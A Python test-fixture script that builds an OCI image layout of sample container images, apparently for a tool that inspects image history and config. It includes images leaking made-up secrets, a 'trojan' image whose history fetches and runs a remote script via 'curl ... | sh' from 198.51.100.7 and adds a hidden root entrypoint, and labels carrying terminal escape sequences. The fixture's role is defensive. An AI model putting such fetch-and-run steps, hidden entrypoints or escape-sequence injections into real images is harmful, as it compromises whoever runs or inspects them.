"""A shop's images as an OCI layout: a base, a web server for two platforms, its trojan, and odd ones."""
import json
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "registry"))
from images import Image, Index, layer  # noqa: E402

BUILDKIT = {"comment": "buildkit.dockerfile.v0"}
TOKEN = "dckr_pat_MADEUPMADEUPMADEUP1"
PASSWORD = "made-up-password"


def step(command, created, empty=False):
    return {"created_by": command, "created": created} | BUILDKIT | ({"empty_layer": True} if empty else {})


def base(architecture="amd64"):
    when = "2026-10-01T00:00:00Z"
    return Image([layer({"etc/os-release": b"ID=debian\n", "etc/arch": architecture.encode()})],
                 [{"created_by": "# debian.sh --arch 'amd64' out/ 'trixie' '@1766966400'", "created": when, "comment": "debuerreotype 0.17"},
                  step('CMD ["bash"]', when, empty=True)],
                 when, architecture=architecture, config={"Cmd": ["bash"]})


def web(architecture="amd64", created="2026-11-02T10:20:30Z"):
    on = base(architecture)
    steps = [step("LABEL maintainer=Web Team <web@acme.example>", created, True),
             step("ENV API_TOKEN=" + PASSWORD, created, True),
             step(f"ARG NPM_TOKEN={PASSWORD}", created, True),
             step(f"RUN |1 NPM_TOKEN={PASSWORD} /bin/sh -c set -eux; \tapt-get update     && apt-get install -y --no-install-recommends "
                  "web     && rm -rf /var/lib/apt/lists/* # buildkit", created),
             step("COPY --chown=web:web . /srv # buildkit", created),
             step("USER web", created, True),
             step("EXPOSE map[443/tcp:{} 80/tcp:{}]", created, True),
             step('ENTRYPOINT ["/srv/run" "--all of it"]', created, True)]
    config = {"User": "web", "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "API_TOKEN=" + PASSWORD],
              "Entrypoint": ["/srv/run", "--all of it"], "Cmd": None, "ExposedPorts": {"443/tcp": {}, "80/tcp": {}},
              "Labels": {"maintainer": "Web Team <web@acme.example>", "token": TOKEN}}
    return Image(on.layers + [layer({"usr/bin/web": architecture.encode() * 500}), layer({"srv/run": b"#!/bin/sh\n"})],
                 on.history + steps, created, architecture=architecture, config=config)


def trojan():
    """The web server, with a layer on top and another entrypoint that no step tells of."""
    clean, when = web(), "2026-11-20T03:04:05Z"
    return clean.child([layer({"usr/lib/.x": b"\x7fELF"})],
                       [step("RUN /bin/sh -c curl -s http://198.51.100.7/x | sh # buildkit", when)], when,
                       config={"Entrypoint": ["/usr/lib/.x", "/srv/run"], "User": "root"})


def odd():
    """No date, more history than layers, and text that would move a terminal's cursor."""
    return Image([layer({"a": b"a"})], [{"created_by": "RUN /bin/sh -c printf '\x1b[2J\u202e' # buildkit"},
                                        {"created_by": "COPY b /b # buildkit"}], None,
                 config={"Labels": {"evil": "\x1b]0;gone\x07"}})


def reproducible():
    return Image([layer({"ko": b"ko"})], [{"created_by": "ko build ko://example.com/ko", "author": "ko", "comment": "go build output, at /ko-app/ko",
                                          "created": "1970-01-01T00:00:00Z"}], "1970-01-01T00:00:00Z")


def write_layout(folder, images):
    """images: {name: one of images.py}"""
    folder = pathlib.Path(folder)
    blobs = folder / "blobs" / "sha256"
    blobs.mkdir(parents=True)
    (folder / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
    members = []
    for name, one in images.items():
        for digest, data in one.blobs().items():
            (blobs / digest[7:]).write_bytes(data)
        for manifest in one.manifests():
            (blobs / manifest.digest[7:]).write_bytes(manifest.data)
        members.append(one.descriptor(annotations={"org.opencontainers.image.ref.name": name}))
    (folder / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": members}))


def write_scene(folder):
    write_layout(folder, {
        "docker.io/library/debian:trixie": base(),
        "docker.io/acme/web:1.0": Index([web("arm64"), web()], attestations=True),
        "docker.io/acme/web:1.1": Index([web("arm64"), trojan()], attestations=True),
        "docker.io/acme/trojan:1": trojan(),
        "docker.io/acme/odd:1": odd(),
        "docker.io/acme/ko:1": reproducible(),
    })


if __name__ == "__main__":
    write_scene(sys.argv[1])
